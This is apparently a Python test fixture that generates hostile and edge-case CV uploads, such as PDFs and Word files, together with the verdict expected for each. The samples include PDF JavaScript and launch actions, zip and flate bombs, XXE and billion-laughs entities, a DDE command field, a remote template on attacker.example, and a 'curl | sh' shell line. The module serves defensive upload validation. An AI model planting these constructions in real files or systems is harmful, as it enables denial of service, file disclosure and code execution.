"""Hostile and edge-case CV files, made at test time: what candidates (and attackers) upload.

Each ``Sample`` says what must happen to it: refused with a reason code, accepted with a piece
of its text, or held for the candidate's confirmation (no readable text). Nothing is read from
disk; every file is built here from bytes, so the set documents how each attack is shaped.

    .venv/bin/python -m tests.cv_corpus var/cv-corpus   # writes the files, to try them by hand
"""

from __future__ import annotations

import functools
import io
import os
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path

from pypdf import PdfReader, PdfWriter

MIB = 1024 * 1024


@dataclass(frozen=True)
class Sample:
    name: str
    filename: str
    build: Callable[[], bytes]
    refused: str | None = None  # the reason code it must be refused with
    text: str | None = None  # accepted: a piece of the text that must be read
    confirm: bool = False  # accepted only once the candidate confirms (no readable text)

    @property
    def hostile(self) -> bool:
        return self.refused is not None

    def data(self) -> bytes:
        return _built(self.name)


# PDF ----------------------------------------------------------------------------------------------


def _pdf_string(text: str) -> bytes:
    escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return b"(" + escaped.encode("cp1252") + b")"


def _stream(body: bytes, *, extra: bytes = b"", compress: bool = False) -> bytes:
    if compress:
        body = zlib.compress(body)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length " + str(len(body)).encode() + extra + b" >>\nstream\n" + body + b"\nendstream"


def _content(lines: Sequence[str]) -> bytes:
    return b"\n".join(
        b"BT /F1 12 Tf 72 " + str(720 - 18 * index).encode() + b" Td " + _pdf_string(line) + b" Tj ET"
        for index, line in enumerate(lines)
    )


def pdf_file(objects: Sequence[bytes], *, trailer: bytes = b"", version: bytes = b"1.7") -> bytes:
    """A PDF of numbered objects (1 is the catalog) with a classic cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(
        b"trailer\n<< /Size "
        + str(len(objects) + 1).encode()
        + b" /Root 1 0 R "
        + trailer
        + b" >>\nstartxref\n"
        + str(xref).encode()
        + b"\n%%EOF\n"
    )
    return out.getvalue()


def text_pdf(
    lines: Sequence[str] = ("Sofie Kjærgaard", "IT-projektleder, PRINCE2"),
    *,
    pages: int = 1,
    catalog: bytes = b"",
    page: bytes = b"",
    extra: Sequence[bytes] = (),
    compress: bool = False,
) -> bytes:
    """A PDF with the lines on each page. ``extra`` objects are numbered from 4 on."""
    first_page = 4 + len(extra)
    kids = b" ".join(f"{first_page + 2 * index} 0 R".encode() for index in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count " + str(pages).encode() + b" >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        *extra,
    ]
    for index in range(pages):
        content = first_page + 2 * index + 1
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
            b"/Contents " + str(content).encode() + b" 0 R " + page + b" >>"
        )
        objects.append(_stream(_content(lines), compress=compress))
    return pdf_file(objects)


def _encrypted(data: bytes, *, user: str, owner: str, algorithm: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    writer.encrypt(user_password=user, owner_password=owner, algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _zeros_deflated(size: int) -> bytes:
    """``size`` zero bytes, deflated, without holding them all in memory."""
    deflater = zlib.compressobj(9)
    chunk = bytes(MIB)
    parts = [deflater.compress(chunk) for _ in range(size // MIB)]
    parts.append(deflater.flush())
    return b"".join(parts)


def flate_bomb_pdf() -> bytes:
    # The page's content stream inflates to 256 MiB of zeros from about 250 KB.
    bomb = _zeros_deflated(256 * MIB)
    content = b"<< /Length " + str(len(bomb)).encode() + b" /Filter /FlateDecode >>\nstream\n" + bomb
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        content + b"\nendstream",
    ]
    return pdf_file(objects)


def many_flate_streams_pdf() -> bytes:
    # Each image stays under the ceiling for one stream; together they pass the total.
    image = _zeros_deflated(30 * MIB)
    images = [
        b"<< /Type /XObject /Subtype /Image /Width 5120 /Height 6144 /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Filter /FlateDecode /Length " + str(len(image)).encode() + b" >>\nstream\n"
        b"" + image + b"\nendstream"
        for _ in range(6)
    ]
    return text_pdf(["Bilag"], extra=images)


def scanned_pdf() -> bytes:
    # One grey picture of a page and no text layer, as a scanner makes it.
    width, height = 300, 420
    pixels = bytes((x * 7 + y * 3) % 256 for y in range(height) for x in range(width))
    image = zlib.compress(pixels)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>",
        _stream(b"q 595 0 0 842 0 0 cm /Im1 Do Q"),
        b"<< /Type /XObject /Subtype /Image /Width 300 /Height 420 /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Filter /FlateDecode /Length " + str(len(image)).encode() + b" >>\nstream\n"
        b"" + image + b"\nendstream",
    ]
    return pdf_file(objects)


def huge_valid_pdf() -> bytes:
    # Text and a photo-sized picture that does not compress: just under the 5 MB limit.
    picture = os.urandom(4 * MIB + 512 * 1024)
    image = (
        b"<< /Type /XObject /Subtype /Image /Width 1536 /Height 1024 /ColorSpace /DeviceRGB "
        b"/BitsPerComponent 8 /Length "
        + str(len(picture)).encode()
        + b" >>\nstream\n"
        + picture
        + b"\nendstream"
    )
    return text_pdf(["Mikkel Ærø", "Fotograf og grafisk designer"], extra=[image])


def object_stream_js_pdf() -> bytes:
    """JavaScript inside a compressed object stream, found through a cross-reference stream."""
    action = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    objstm_body = zlib.compress(b"7 0 " + action)
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        4: _stream(_content(["Anna Lindqvist", "Ekonom"])),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        6: b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(objstm_body)).encode()
        + b" >>\nstream\n"
        + objstm_body
        + b"\nendstream",
    }
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in bodies.items():
        offsets[number] = out.tell()
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    offsets[8] = out.tell()
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[number], 0) for number in range(1, 7)]
    rows += [struct.pack(">BIH", 2, 6, 0), struct.pack(">BIH", 1, offsets[8], 0)]
    table = b"".join(rows)
    out.write(
        b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Length "
        + str(len(table)).encode()
        + b" >>\nstream\n"
        + table
        + b"\nendstream\nendobj\nstartxref\n"
        + str(offsets[8]).encode()
        + b"\n%%EOF\n"
    )
    return out.getvalue()


def looping_page_tree_pdf() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
    ]
    return pdf_file(objects)


# Zips and Word documents --------------------------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def document_xml(paragraphs: Iterable[str] = (), *, body: str = "", prolog: str = _XML) -> str:
    runs = "".join(f"<w:p><w:r><w:t>{_escape(text)}</w:t></w:r></w:p>" for text in paragraphs)
    return f'{prolog}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{runs}{body}</w:body></w:document>'


def content_types(*, main: str = WORD_MAIN, extra: str = "", prolog: str = _XML) -> str:
    return (
        f'{prolog}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="png" ContentType="image/png"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>'
    )


def relationships(*rows: str) -> str:
    return (
        f'{_XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(rows)
        + "</Relationships>"
    )


_PACKAGE_RELS = relationships(
    f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/>'
)


def docx_file(
    paragraphs: Sequence[str] = ("Sofie Kjærgaard", "IT-projektleder med PRINCE2"),
    *,
    document: str | None = None,
    types: str | None = None,
    entries: dict[str, bytes | str] | None = None,
    without: Iterable[str] = (),
) -> bytes:
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": types if types is not None else content_types(),
        "_rels/.rels": _PACKAGE_RELS,
        "word/document.xml": document if document is not None else document_xml(paragraphs),
        **(entries or {}),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            if name not in without:
                archive.writestr(name, data)
    return buffer.getvalue()


def odt_file(paragraphs: Sequence[str]) -> bytes:
    """An OpenDocument text (LibreOffice's own format): a zip, but not a Word document."""
    text = "".join(f"<text:p>{_escape(line)}</text:p>" for line in paragraphs)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        archive.writestr(
            "content.xml",
            f'{_XML}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            f'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>{text}'
            "</office:text></office:body></office:document-content>",
        )
        archive.writestr("META-INF/manifest.xml", f"{_XML}<manifest:manifest/>")
    return buffer.getvalue()


@dataclass
class RawEntry:
    name: str
    data: bytes
    declared_size: int | None = None  # what the headers claim it unpacks to
    password: bytes | None = None  # ZipCrypto, as old zip tools and "encrypt with password" do


def _zipcrypto(data: bytes, *, password: bytes, crc: int) -> bytes:
    """Traditional PKWARE encryption of already deflated data, with its 12-byte header."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def crc_step(value: int, byte: int) -> int:
        return zlib.crc32(bytes([byte]), value ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    def update(byte: int) -> None:
        keys[0] = crc_step(keys[0], byte)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc_step(keys[2], keys[1] >> 24)

    for byte in password:
        update(byte)
    out = bytearray()
    for byte in bytes(11) + bytes([crc >> 24]):
        temp = (keys[2] | 2) & 0xFFFF
        out.append(byte ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
        update(byte)
    for byte in data:
        temp = (keys[2] | 2) & 0xFFFF
        out.append(byte ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
        update(byte)
    return bytes(out)


def raw_zip(entries: Sequence[RawEntry]) -> bytes:
    """A zip written by hand, so that flags and declared sizes can say what we want them to."""
    out = io.BytesIO()
    central = io.BytesIO()
    for entry in entries:
        deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = deflater.compress(entry.data) + deflater.flush()
        crc = zlib.crc32(entry.data)
        flags = 0
        if entry.password is not None:
            packed = _zipcrypto(packed, password=entry.password, crc=crc)
            flags |= 0x1
        size = len(entry.data) if entry.declared_size is None else entry.declared_size
        name = entry.name.encode()
        offset = out.tell()
        out.write(
            struct.pack(
                "<4s5H3L2H", b"PK\x03\x04", 20, flags, 8, 0, 0x21, crc, len(packed), size, len(name), 0
            )
        )
        out.write(name + packed)
        central.write(
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                20,
                20,
                flags,
                8,
                0,
                0x21,
                crc,
                len(packed),
                size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + name
        )
    start = out.tell()
    directory = central.getvalue()
    out.write(directory)
    out.write(
        struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), start, 0)
    )
    return out.getvalue()


def _docx_entries(**overrides: bytes) -> list[RawEntry]:
    parts = {
        "[Content_Types].xml": content_types().encode(),
        "_rels/.rels": _PACKAGE_RELS.encode(),
        "word/document.xml": document_xml(["Karin Åberg", "Sjuksköterska"]).encode(),
        **overrides,
    }
    return [RawEntry(name, data) for name, data in parts.items()]


def zipcrypto_docx() -> bytes:
    entries = _docx_entries()
    entries[2].password = b"hemligt"
    return raw_zip(entries)


def lying_small_size_docx() -> bytes:
    # The headers say word/document.xml unpacks to 2 KB; it unpacks to 40 MiB.
    padding = b" " * (40 * MIB)
    document = document_xml(["Lars Holm"]).encode().replace(b"</w:body>", padding + b"</w:body>")
    entries = _docx_entries(**{"word/document.xml": document})
    entries[2].declared_size = 2048
    return raw_zip(entries)


def lying_large_size_docx() -> bytes:
    # The headers say a 4 GB entry; a reader that trusts them reserves that much.
    entries = _docx_entries()
    entries[2].declared_size = 0xFFFF_FFF0
    return raw_zip(entries)


def ratio_bomb_docx() -> bytes:
    return docx_file(entries={"word/media/image1.png": bytes(30 * MIB)})


def nested_zip_docx() -> bytes:
    inner = docx_file(entries={"word/media/image1.png": bytes(30 * MIB)})
    return docx_file(entries={"word/media/image1.png": inner})


def _cfb(*stream_names: str) -> bytes:
    """An OLE compound file (the container of .doc files and of encrypted Office files)."""
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<LLLLLLLLL", 0, 1, 1, 0, 0x1000, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    )
    header += struct.pack("<L", 0) + b"\xff" * (512 - len(header) - 4)
    directory = b""
    for index, name in enumerate(["Root Entry", *stream_names]):
        encoded = (name + "\0").encode("utf-16-le")
        kind = 5 if index == 0 else 2
        directory += encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
        directory += (
            struct.pack("<LLL", 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF) + bytes(36) + struct.pack("<LL", 0, 0)
        )
    return header + directory.ljust(4096, b"\0")


def remote_template_docx() -> bytes:
    settings_rels = relationships(
        f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
        'Target="https://attacker.example/template.dotm" TargetMode="External"/>'
    )
    return docx_file(
        entries={
            "word/settings.xml": f'{_XML}<w:settings xmlns:w="{W}" xmlns:r="{R}">'
            '<w:attachedTemplate r:id="rId1"/></w:settings>',
            "word/_rels/settings.xml.rels": settings_rels,
        }
    )


def hyperlink_docx() -> bytes:
    body = (
        '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>linkedin.com/in/jens-ostergaard</w:t></w:r>'
        "</w:hyperlink></w:p>"
    )
    return docx_file(
        document=document_xml(["Jens Østergaard", "Tømrer og bygningskonstruktør"], body=body),
        entries={
            "word/_rels/document.xml.rels": relationships(
                f'<Relationship Id="rId9" Type="{R}/hyperlink" '
                'Target="https://www.linkedin.com/in/jens-ostergaard" TargetMode="External"/>'
            )
        },
    )


_XXE = '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">' for n in range(1, 10))
    + "]>"
)


def truncated(data: bytes, share: float = 0.6) -> bytes:
    return data[: int(len(data) * share)]


# The set ------------------------------------------------------------------------------------------

_JS = b"<< /S /JavaScript /JS (app.alert\\('hej'\\); this.exportDataObject\\({cName: 'x'}\\)) >>"
_ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(200)
_PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(46) + b"PE\x00\x00" + bytes(200)

CORPUS: list[Sample] = [
    # Accepted, with their text ------------------------------------------------------------------
    Sample(
        "pdf in Danish",
        "cv.pdf",
        lambda: text_pdf(["Sofie Kjærgaard", "Projektleder i Århus, økonomi"]),
        text="Projektleder i Århus, økonomi",
    ),
    Sample(
        "pdf in Swedish",
        "CV Åsa.pdf",
        lambda: text_pdf(["Åsa Öberg", "Snickare i Göteborg, träbyggnad"]),
        text="Snickare i Göteborg, träbyggnad",
    ),
    Sample(
        "pdf in English",
        "resume.PDF",
        lambda: text_pdf(["John Smith", "IT project manager, PRINCE2"]),
        text="IT project manager, PRINCE2",
    ),
    Sample(
        "pdf with compressed content",
        "cv.pdf",
        lambda: text_pdf(["Mette Præstegaard", "Bogholder"], compress=True),
        text="Mette Præstegaard",
    ),
    Sample(
        "pdf of several pages",
        "cv.pdf",
        lambda: text_pdf(["Henrik Sørensen", "Elektriker"], pages=12),
        text="Henrik Sørensen",
    ),
    Sample(
        "pdf with only an owner password (AES-256)",
        "cv.pdf",
        lambda: _encrypted(
            text_pdf(["Ingrid Lindström", "Lärare"]), user="", owner="ägare", algorithm="AES-256"
        ),
        text="Ingrid Lindström",
    ),
    Sample(
        "pdf with only an owner password (RC4-128)",
        "cv.pdf",
        lambda: _encrypted(text_pdf(["Ole Ærenlund", "Kok"]), user="", owner="ejer", algorithm="RC4-128"),
        text="Ole Ærenlund",
    ),
    Sample(
        "pdf with a web link and an open-at-page-one action",
        "cv.pdf",
        lambda: text_pdf(
            ["Freja Holm", "UX designer"],
            catalog=b"/OpenAction [4 0 R /Fit]",
            page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] "
            b"/A << /S /URI /URI (https://www.linkedin.com/in/freja) >> >>]",
        ),
        text="UX designer",
    ),
    Sample(
        "pdf close to the size limit", "portfolio.pdf", huge_valid_pdf, text="Fotograf og grafisk designer"
    ),
    Sample(
        "pdf that says JavaScript in its text",
        "cv.pdf",
        lambda: text_pdf(["Nils Ek", "HTML/CSS/JavaScript /JS /Launch"]),
        text="HTML/CSS/JavaScript",
    ),
    Sample(
        "docx in Danish",
        "cv.docx",
        lambda: docx_file(["Søren Ærtebjerg", "Sygeplejerske på Ålborg Sygehus"]),
        text="Sygeplejerske på Ålborg Sygehus",
    ),
    Sample(
        "docx in Swedish",
        "CV.DOCX",
        lambda: docx_file(["Björn Åkesson", "Säljare, bilhandel i Malmö"]),
        text="Säljare, bilhandel i Malmö",
    ),
    Sample(
        "docx in English",
        "resume.docx",
        lambda: docx_file(["Jane Doe", "Data engineer, Python & SQL"]),
        text="Data engineer, Python & SQL",
    ),
    Sample("docx with a hyperlink", "cv.docx", hyperlink_docx, text="Tømrer og bygningskonstruktør"),
    Sample(
        "docx close to the size limit",
        "cv.docx",
        lambda: docx_file(["Maja Öhrn", "Arkitekt"], entries={"word/media/image1.png": os.urandom(4 * MIB)}),
        text="Arkitekt",
    ),
    Sample(
        "docx named .pdf", "cv.pdf", lambda: docx_file(["Emil Strøm", "Lagerarbejder"]), text="Lagerarbejder"
    ),
    # Accepted only on confirmation: no text to read ------------------------------------------
    Sample("scanned pdf", "scan.pdf", scanned_pdf, confirm=True),
    Sample(
        "docx with only a picture",
        "cv.docx",
        lambda: docx_file([], entries={"word/media/image1.png": b"\x89PNG\r\n\x1a\n" + os.urandom(2000)}),
        confirm=True,
    ),
    # Refused: not a document -------------------------------------------------------------------
    Sample("empty file", "cv.pdf", lambda: b"", refused="empty"),
    Sample("Linux program named .pdf", "cv.pdf", lambda: _ELF, refused="program"),
    Sample("Windows program named .docx", "cv.docx", lambda: _PE, refused="program"),
    Sample(
        "shell script named .pdf",
        "cv.pdf",
        lambda: b"#!/bin/sh\ncurl -s https://x.example | sh\n",
        refused="program",
    ),
    Sample(
        "web page named .pdf",
        "cv.pdf",
        lambda: b"<html><script>alert(1)</script></html>",
        refused="not_a_document",
    ),
    Sample(
        "spreadsheet named .docx",
        "cv.docx",
        lambda: docx_file(
            types=content_types(
                main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
            )
        ),
        refused="not_a_document",
    ),
    Sample(
        "OpenDocument text named .docx",
        "cv.docx",
        lambda: odt_file(["Linnea Sjöberg", "Projektledare"]),
        refused="not_a_document",
    ),
    Sample(
        "old Word file",
        "cv.doc",
        lambda: _cfb("WordDocument", "1Table", "\x05SummaryInformation"),
        refused="old_word",
    ),
    Sample(
        "file over 5 MB",
        "cv.pdf",
        lambda: text_pdf(["Stor"], extra=[_stream(os.urandom(5 * MIB))]),
        refused="too_large",
    ),
    # Refused: encrypted --------------------------------------------------------------------------
    Sample(
        "pdf with a user password (AES-256)",
        "cv.pdf",
        lambda: _encrypted(text_pdf(), user="hemmelig", owner="ejer", algorithm="AES-256"),
        refused="encrypted",
    ),
    Sample(
        "pdf with a user password (RC4-128)",
        "cv.pdf",
        lambda: _encrypted(text_pdf(), user="hemmelig", owner="ejer", algorithm="RC4-128"),
        refused="encrypted",
    ),
    Sample(
        "Word document encrypted with a password",
        "cv.docx",
        lambda: _cfb("EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"),
        refused="encrypted",
    ),
    Sample("docx with a ZipCrypto entry", "cv.docx", zipcrypto_docx, refused="encrypted"),
    # Refused: active content in PDFs -----------------------------------------------------------
    Sample(
        "pdf with JavaScript on opening",
        "cv.pdf",
        lambda: text_pdf(catalog=b"/OpenAction 4 0 R", extra=[_JS]),
        refused="active_content",
    ),
    Sample(
        "pdf with document JavaScript",
        "cv.pdf",
        lambda: text_pdf(catalog=b"/Names << /JavaScript << /Names [(init) 4 0 R] >> >>", extra=[_JS]),
        refused="active_content",
    ),
    Sample(
        "pdf with JavaScript when a page opens",
        "cv.pdf",
        lambda: text_pdf(page=b"/AA << /O 4 0 R >>", extra=[_JS]),
        refused="active_content",
    ),
    Sample(
        "pdf with JavaScript behind a link",
        "cv.pdf",
        lambda: text_pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 4 0 R >>]", extra=[_JS]
        ),
        refused="active_content",
    ),
    Sample(
        "pdf with a hex-escaped JavaScript name",
        "cv.pdf",
        lambda: text_pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        refused="active_content",
    ),
    Sample(
        "pdf with JavaScript hidden in an object stream",
        "cv.pdf",
        object_stream_js_pdf,
        refused="active_content",
    ),
    Sample(
        "pdf that launches a program",
        "cv.pdf",
        lambda: text_pdf(catalog=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        refused="active_content",
    ),
    Sample(
        "pdf with an embedded file",
        "cv.pdf",
        lambda: text_pdf(
            catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
            extra=[
                b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
                _stream(_PE, extra=b" /Type /EmbeddedFile"),
            ],
        ),
        refused="active_content",
    ),
    Sample(
        "pdf with a file attachment note",
        "cv.pdf",
        lambda: text_pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (payload.exe) >>]"
        ),
        refused="active_content",
    ),
    Sample(
        "pdf with rich media",
        "cv.pdf",
        lambda: text_pdf(page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
        refused="active_content",
    ),
    Sample(
        "pdf with an XFA form",
        "cv.pdf",
        lambda: text_pdf(
            catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>",
            extra=[_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")],
        ),
        refused="active_content",
    ),
    # Refused: PDF bombs and broken PDFs -------------------------------------------------------
    Sample("pdf flate bomb", "cv.pdf", flate_bomb_pdf, refused="bomb"),
    Sample(
        "pdf of many streams that inflate too far together", "cv.pdf", many_flate_streams_pdf, refused="bomb"
    ),
    Sample("pdf of too many pages", "cv.pdf", lambda: text_pdf(["Side"], pages=51), refused="too_many_pages"),
    Sample("pdf whose page tree loops", "cv.pdf", looping_page_tree_pdf, refused="corrupt_pdf"),
    Sample(
        "truncated pdf",
        "cv.pdf",
        lambda: truncated(text_pdf(["Sofie Kjærgaard"] * 40)),
        refused="corrupt_pdf",
    ),
    Sample(
        "pdf header and nothing else",
        "cv.pdf",
        lambda: b"%PDF-1.7\n" + bytes(range(256)) * 8,
        refused="corrupt_pdf",
    ),
    # Refused: DOCX --------------------------------------------------------------------------------
    Sample(
        "docx with an external entity (XXE)",
        "cv.docx",
        lambda: docx_file(document=document_xml(body="<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>", prolog=_XXE)),
        refused="unsafe_xml",
    ),
    Sample(
        "docx with billion laughs",
        "cv.docx",
        lambda: docx_file(
            document=document_xml(body="<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>", prolog=_LAUGHS)
        ),
        refused="unsafe_xml",
    ),
    Sample(
        "docx with a DTD in a header part",
        "cv.docx",
        lambda: docx_file(entries={"word/header1.xml": _XXE + f'<w:hdr xmlns:w="{W}">&xxe;</w:hdr>'}),
        refused="unsafe_xml",
    ),
    Sample(
        "docx with a DTD in its content types",
        "cv.docx",
        lambda: docx_file(
            types=content_types(prolog='<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "a">]>')
        ),
        refused="unsafe_xml",
    ),
    Sample(
        "docx without word/document.xml",
        "cv.docx",
        lambda: docx_file(without=["word/document.xml"]),
        refused="corrupt_docx",
    ),
    Sample(
        "truncated docx", "cv.docx", lambda: truncated(docx_file(["Sofie"] * 400)), refused="corrupt_docx"
    ),
    Sample(
        "docx whose sizes claim less than it unpacks to",
        "cv.docx",
        lying_small_size_docx,
        refused="corrupt_docx",
    ),
    Sample("docx whose sizes claim 4 GB", "cv.docx", lying_large_size_docx, refused="bomb"),
    Sample("docx zip bomb", "cv.docx", ratio_bomb_docx, refused="bomb"),
    Sample(
        "docx with thousands of entries",
        "cv.docx",
        lambda: docx_file(entries={f"word/part{index}.xml": "<x/>" for index in range(1001)}),
        refused="bomb",
    ),
    Sample("docx with a zip inside", "cv.docx", nested_zip_docx, refused="active_content"),
    Sample(
        "docx with macros (.docm)",
        "cv.docx",
        lambda: docx_file(
            types=content_types(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
            entries={"word/vbaProject.bin": _cfb("VBA", "PROJECT")},
        ),
        refused="macros",
    ),
    Sample(
        "docx with a VBA project under an ordinary type",
        "cv.docx",
        lambda: docx_file(entries={"word/vbaProject.bin": _cfb("VBA", "PROJECT")}),
        refused="macros",
    ),
    Sample(
        "docx with an ActiveX control",
        "cv.docx",
        lambda: docx_file(entries={"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='x'/>"}),
        refused="active_content",
    ),
    Sample(
        "docx with an embedded OLE object",
        "cv.docx",
        lambda: docx_file(entries={"word/embeddings/oleObject1.bin": _cfb("\x01Ole10Native")}),
        refused="active_content",
    ),
    Sample("docx with a remote template", "cv.docx", remote_template_docx, refused="active_content"),
    Sample(
        "docx with a DDE field",
        "cv.docx",
        lambda: docx_file(
            document=document_xml(
                ["Peter Lund"],
                body="<w:p><w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"'>"
                "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>",
            )
        ),
        refused="active_content",
    ),
]


@functools.cache
def _built(name: str) -> bytes:
    sample = next(sample for sample in CORPUS if sample.name == name)
    return sample.build()


def main(folder: str) -> None:
    target = Path(folder)
    target.mkdir(parents=True, exist_ok=True)
    for index, sample in enumerate(CORPUS, start=1):
        (target / f"{index:02d}-{sample.filename}").write_bytes(sample.data())


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "cv-corpus")
